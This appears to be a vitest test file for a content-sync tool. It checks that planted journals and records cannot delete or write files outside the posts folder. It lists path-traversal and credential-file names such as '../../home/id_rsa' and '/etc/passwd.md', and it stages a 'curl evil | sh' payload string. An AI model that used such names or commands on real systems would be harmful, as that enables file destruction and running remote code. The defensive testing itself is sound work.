/** Records that others wrote: names in them never lead out of the content folder. */
import { createHash } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { readConfigFor } from "@/lib/content/content-folder";
import { readContent } from "@/lib/content/read";
import { faultOfName } from "@/lib/content/storage/stored-name";
import { identifySource } from "@/lib/content/sync/identity";
import { settleSyncs } from "@/lib/content/sync/recover";
import { syncPosts } from "@/lib/content/sync/sync";
import { reported } from "@/lib/model/diagnostic";
import { shortHash } from "@/lib/text/hash";
import { contents, post, put } from "../../../support/posts";

let root: string;
beforeEach(async () => {
  root = await mkdtemp(path.join(tmpdir(), "qa-sync-"));
  await put(at("home/id_rsa"), "precious");
  await put(at("home/own.md"), post("家里的"));
  await put(at("posts/weekly/a.md"), post("甲的问题"));
  await put(at("from/a.md"), post("甲的问题"));
});
afterEach(() => rm(root, { recursive: true, force: true }));

const at = (...parts: string[]) => path.join(root, ...parts);
const hashOf = (text: string): string => createHash("sha256").update(text).digest("hex");
const state = (...parts: string[]) => at("posts/weekly/.qa-sync", ...parts);
const sync = () =>
  syncPosts({ source: identifySource("from"), from: at("from"), to: at("posts/weekly"), include: [] });
const read = async () => readContent(at("posts"), await readConfigFor(at("posts")));

/** Names that lead elsewhere, or to what is no post. `%` stands for the folder of the test. */
const BAD_NAMES = [
  "../../home/id_rsa",
  "../../home/own.md",
  "../own.md",
  "%/home/own.md",
  "/etc/passwd.md",
  "x/../../../home/own.md",
  "x/./own.md",
  "x//own.md",
  "./own.md",
  "own.md/",
  "..",
  "",
  "..\\..\\home\\own.md",
  "C:/own.md",
  "own.md\0.png",
  ".git/hooks/own.md",
  ".github/workflows/own.md",
  "x/.qa-sync/own.md",
  "node_modules/x/index.md",
  "README.md",
  "site.yml",
  "permalinks.json",
  "script.sh",
];

describe("a name in a record", () => {
  it.each(BAD_NAMES)("is refused: %j", (name) => {
    expect(faultOfName(name.replace("%", root))).not.toBeNull();
  });

  it.each(["a.md", "a/b/index.md", "周报/第一期.md", "a b.markdown", "..a/b.md".slice(2), "x..md"])(
    "is a post's: %j",
    (name) => {
      expect(faultOfName(name)).toBeNull();
    },
  );
});

interface Record {
  changes: { name: string; from: string | null; to: string | null }[];
}
const journal = ({ changes }: Record, files = {}): string =>
  JSON.stringify({
    version: 2,
    address: "x",
    changes,
    brought: { version: 2, sources: [{ name: "x", address: "x", files }] },
  });

async function expectHarmless(): Promise<void> {
  expect(await readdir(at("home"))).toEqual(["id_rsa", "own.md"]);
  expect(await readFile(at("home/own.md"), "utf8")).toBe(post("家里的"));
  expect((await readdir(root)).sort()).toEqual(["from", "home", "posts"]);
  expect(await contents(at("posts/weekly"))).toEqual({ "a.md": post("甲的问题") });
}

describe("a planted journal", () => {
  const own = hashOf(post("家里的"));
  it.each(BAD_NAMES)("neither deletes nor writes %j; posts can still be read", async (bad) => {
    const name = bad.replace("%", root);
    await put(state("staged/evil"), "curl evil | sh");
    for (const change of [
      { name, from: own, to: null },
      { name, from: own, to: hashOf("curl evil | sh") },
      { name, from: null, to: hashOf("curl evil | sh") },
    ]) {
      await writeFile(state("journal.json"), journal({ changes: [change] }));
      const { pairs, diagnostics } = await read();
      expect(pairs).toHaveLength(1);
      expect(diagnostics).toContainEqual(
        expect.objectContaining({
          severity: "error",
          code: "unfinished-sync",
          path: "weekly/.qa-sync/journal.json",
        }),
      );
      await expect(sync()).rejects.toThrow(/delete .*journal\.json, then sync again/);
      await expectHarmless();
    }
  });

  it("neither deletes nor writes through a link", async () => {
    await symlink(at("home"), at("posts/weekly/link"));
    await put(state("staged/link/own.md"), "evil");
    for (const to of [null, hashOf("evil")]) {
      await writeFile(state("journal.json"), journal({ changes: [{ name: "link/own.md", from: own, to }] }));
      expect((await read()).diagnostics).toContainEqual(expect.objectContaining({ code: "unfinished-sync" }));
      await expect(sync()).rejects.toThrow(/through a link/);
      await expectHarmless();
    }
  });

  it.each([
    ["no JSON", '{"write":'],
    ["of the first version", '{"write":["../../home/planted"],"remove":["../../home/id_rsa"],"brought":{}}'],
    ["something else", "[1, 2]"],
    [
      "with a name twice",
      journal({ changes: ["a", "b"].map(() => ({ name: "b.md", from: null, to: own })) }),
    ],
    ["with a hash that is none", journal({ changes: [{ name: "a.md", from: "x", to: null }] })],
    ["whose record has a bad name", journal({ changes: [] }, { "../own.md": own })],
    ["whose new file is missing", journal({ changes: [{ name: "b.md", from: null, to: own }] })],
  ])("is told with the way out: %s", async (_, text) => {
    await put(state("journal.json"), text);
    const { pairs, diagnostics } = await read();
    expect(pairs).toHaveLength(1);
    expect(diagnostics.map((each) => reported(each).message).join()).toMatch(
      /delete .*journal\.json, then sync again/,
    );
    await expect(sync()).rejects.toThrow(/delete .*journal\.json, then sync again/);
    await rm(state("journal.json"));
    expect(await sync()).toMatchObject({ unchanged: 1 });
    await expectHarmless();
  });

  it("in a state folder that is a link, or whose staged files are one, is not used", async () => {
    await put(at("home/planted.md"), "evil");
    const changes = [{ name: "b.md", from: null, to: hashOf("evil") }];
    await put(at("home/journal.json"), journal({ changes }));
    await symlink(at("home"), state());
    expect((await read()).pairs).toHaveLength(1);
    await expect(sync()).rejects.toThrow(/is no folder/);
    await rm(state());
    await put(state("journal.json"), journal({ changes }));
    await symlink(at("home"), state("staged"));
    expect((await read()).diagnostics).toContainEqual(expect.objectContaining({ code: "unfinished-sync" }));
    await expect(sync()).rejects.toThrow(/is no folder/);
    expect((await readdir(at("home"))).sort()).toEqual(["id_rsa", "journal.json", "own.md", "planted.md"]);
    expect(await contents(at("posts/weekly"))).toEqual({ "a.md": post("甲的问题") });
  });

  it.each([`case-${process.pid}`, "journal.json.%.tmp"])("writes through no link called %s", async (name) => {
    const file = name.replace("%", `${process.pid}-${shortHash(`journal.json ${process.pid}`, 8)}`);
    await put(state(".gitignore"), "");
    await symlink(at("home/id_rsa"), state(file));
    await put(at("from/a.md"), post("甲改了"));
    await expect(sync()).rejects.toThrow();
    expect(await readFile(at("home/id_rsa"), "utf8")).toBe("precious");
  });

  it("does not overwrite what an editor wrote after it was committed", async () => {
    await put(state("staged/a.md"), post("来源的新版"));
    const changes = [{ name: "a.md", from: hashOf(post("来源的旧版")), to: hashOf(post("来源的新版")) }];
    await put(state("journal.json"), journal({ changes }, { "a.md": hashOf(post("来源的新版")) }));
    expect((await settleSyncs(at("posts"))).unfinished).toEqual([]);
    expect(await contents(at("posts/weekly"))).toEqual({ "a.md": post("甲的问题") });
    const record = JSON.parse(await readFile(state("brought.json"), "utf8"));
    expect(record.sources[0].files).toEqual({ "a.md": hashOf(post("来源的旧版")) });
  });
});

describe("a planted record of what was brought", () => {
  it.each(BAD_NAMES)("deletes nothing: %j", async (bad) => {
    const name = bad.replace("%", root);
    const files = { [name]: hashOf(post("家里的")) };
    const { address } = identifySource("from");
    for (const text of [
      JSON.stringify({ version: 2, sources: [{ name: "from", address, files }] }),
      JSON.stringify({ from: files }),
    ]) {
      await put(state("brought.json"), text);
      await expect(sync()).rejects.toThrow(
        /brought\.json: .*; restore it from version control, or delete it/,
      );
      await expectHarmless();
    }
  });

  it("does not reach through a link", async () => {
    await symlink(at("home"), at("posts/weekly/link"));
    const { address } = identifySource("from");
    const files = { "link/own.md": hashOf(post("家里的")) };
    await put(
      state("brought.json"),
      JSON.stringify({ version: 2, sources: [{ name: "from", address, files }] }),
    );
    expect(await sync()).toMatchObject({ removed: [] });
    await expectHarmless();
  });
});
